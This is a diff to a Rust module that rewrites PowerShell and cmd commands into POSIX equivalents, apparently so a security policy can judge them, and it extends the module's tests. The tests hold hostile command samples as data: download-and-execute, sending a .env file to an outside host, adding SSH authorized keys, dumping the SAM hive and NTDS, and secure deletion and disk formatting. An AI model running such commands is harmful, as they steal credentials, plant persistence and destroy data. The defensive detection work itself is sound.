@@ -30,9 +30,10 @@
 //!
 //! A reader, not an interpreter: statements are split at `;`, newlines,
 //! `&&` and `||` (`&` in `cmd`), pipelines at `|`, words at blanks outside
-//! quotes; PowerShell's script blocks, subexpressions other than a
-//! download and its own variables are not evaluated (a `$x` stays a
-//! variable, unknown to the policies).
+//! quotes, parentheses and braces; the commands of a script block or a
+//! subexpression are read as statements of their own (whether and how
+//! often it runs is not known), and PowerShell's own variables are not
+//! evaluated (a `$x` stays a variable, unknown to the policies).
 
 use base64::Engine as _;
 
@@ -40,9 +41,13 @@ use super::model::{Word, quote, without_exe};
 use cmd::{cmd_line, redirection};
 use environment::{env_drive, env_reads};
 use opts::{Opts, grouped_value};
-use text::{name_pattern, posix_path, posix_paths, read_in_subexpression, split, unquote, words};
+use text::{
+    name_pattern, posix_path, posix_paths, read_in_subexpression, split, unqualified, unquote,
+    words,
+};
 
 mod cmd;
+mod content;
 mod credential_stores;
 mod environment;
 mod lolbins;
@@ -207,6 +212,14 @@ fn script(src: &str) -> String {
             out.push(stages.join(" | "));
         }
         out.extend(env_reads(&statement, &lower));
+        // What a script block or a subexpression runs (`ForEach-Object {
+        // Add-Content ~/.ssh/authorized_keys $_ }`, `Write-Output
+        // (Remove-Item …)`), when it runs commands.
+        for inner in text::blocks(&statement) {
+            if is_powershell(inner) {
+                out.push(script(inner));
+            }
+        }
     }
     out.join("; ")
 }
@@ -259,7 +272,7 @@ fn cmdlet(w: &[String]) -> String {
     let Some((name, args)) = w.split_first() else {
         return String::new();
     };
-    let name = name.to_ascii_lowercase();
+    let name = unqualified(name).to_ascii_lowercase();
     let opts = Opts::new(args, name == "taskkill");
     let paths = || {
         opts.values(&["path", "literalpath", "lp", "filepath"])
@@ -296,14 +309,6 @@ fn cmdlet(w: &[String]) -> String {
             };
             format!("rm{r}{f} {}", paths())
         }
-        "clear-content" | "clc" | "set-content" | "sc" | "out-file" => {
-            if opts.has(&["append"]) {
-                format!(": >> {}", paths())
-            } else {
-                format!(": > {}", paths())
-            }
-        }
-        "add-content" | "ac" => format!(": >> {}", paths()),
         // A content search, without case as PowerShell's is.
         "select-string" | "sls" => {
             let pattern = opts
@@ -530,6 +535,14 @@ fn cmdlet(w: &[String]) -> String {
                 None => quoted(w),
             }
         }
+        // A registry key created (`New-Item -Path HKCU:\Software\…`).
+        "new-item" | "ni" if let Some(keys) = registry::keys(&opts) => keys
+            .iter()
+            .map(|k| format!("reg add {} /f", quote(k)))
+            .collect::<Vec<_>>()
+            .join("; "),
+        // Files' content written (`Set-Content`, `Tee-Object`, `New-Item`).
+        n if let Some(line) = content::writes(n, &opts) => line,
         // The recycle bin emptied: what was deleted can no longer be
         // restored.
         "clear-recyclebin" => "rm -rf \"$HOME/.local/share/Trash\"".to_string(),
@@ -612,7 +625,16 @@ mod tests {
         );
         assert_eq!(
             pwsh("IEX (New-Object Net.WebClient).DownloadString('https://x.example/a')"),
-            "curl -sL https://x.example/a | sh"
+            "curl -sL https://x.example/a | sh; New-Object Net.WebClient"
+        );
+        // What a script block or a subexpression runs is read too.
+        assert_eq!(
+            pwsh("Get-Content k | ForEach-Object { Add-Content ~/.ssh/authorized_keys $_ }"),
+            "cat \"k\" | ForEach-Object '{ Add-Content ~/.ssh/authorized_keys $_ }'; : >> \"$HOME/.ssh/authorized_keys\""
+        );
+        assert_eq!(
+            pwsh("Write-Output (Add-Content ~/.bashrc x)"),
+            "Write-Output '(Add-Content ~/.bashrc x)'; : >> \"$HOME/.bashrc\""
         );
         assert_eq!(
             pwsh(
@@ -622,7 +644,7 @@ mod tests {
         );
         assert_eq!(
             pwsh("irm https://x.example -Method Post -Body (Get-Content .env -Raw)"),
-            "curl -sL --data-binary @\".env\" https://x.example"
+            "curl -sL --data-binary @\".env\" https://x.example; cat \".env\""
         );
         assert_eq!(
             pwsh("irm https://x.example -Method Post -Body 'a=1'"),
@@ -816,6 +838,12 @@ mod tests {
             "pkill -STOP -x clawlaw"
         );
         assert_eq!(cmd_line("pssuspend clawlaw.exe"), "pkill -STOP -x clawlaw");
+        assert_eq!(
+            cmd_line(r"sdelete -p 3 -s C:\Users\dev\Documents"),
+            "rm -r -f \"/home/dev/Documents\""
+        );
+        assert_eq!(cmd_line(r"sdelete64 -q secret.txt"), "rm -f \"secret.txt\"");
+        assert_eq!(cmd_line("sdelete -z C:"), "sdelete -z C:");
         assert_eq!(cmd_line("pssuspend 4242"), "kill -STOP 4242");
         assert_eq!(
             cmd_line(
@@ -997,6 +1025,8 @@ mod tests {
         assert!(bare_cmd("reg save HKLM\\SAM C:\\tmp\\s.hiv").is_some());
         assert!(bare_cmd("reg.exe query HKCU\\Software").is_some());
         assert!(bare_cmd("ntdsutil \"ac i ntds\" ifm \"create full c:\\t\" q q").is_some());
+        assert!(bare_cmd(r"sdelete -s C:\Users\dev\Documents").is_some());
+        assert!(bare_cmd(r#"f^ormat "D:" /q"#).is_some());
         assert!(bare_cmd("bitsadmin /list").is_some());
         assert!(bare_cmd("findstr /s TODO C:\\src\\*.rs").is_some());
         assert_eq!(bare_cmd("reg"), None);
